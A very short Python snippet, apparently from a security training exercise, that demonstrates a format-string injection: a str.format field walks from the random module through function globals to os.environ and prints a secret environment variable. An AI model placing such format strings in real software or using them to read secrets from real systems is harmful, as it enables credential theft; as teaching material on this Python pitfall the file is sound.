"""
goal: read attributes with the dots in a format field
effect: leak
"""

import random

print("{0.seed.__func__.__globals__[_os].environ[DOJO_SECRET]}".format(random))
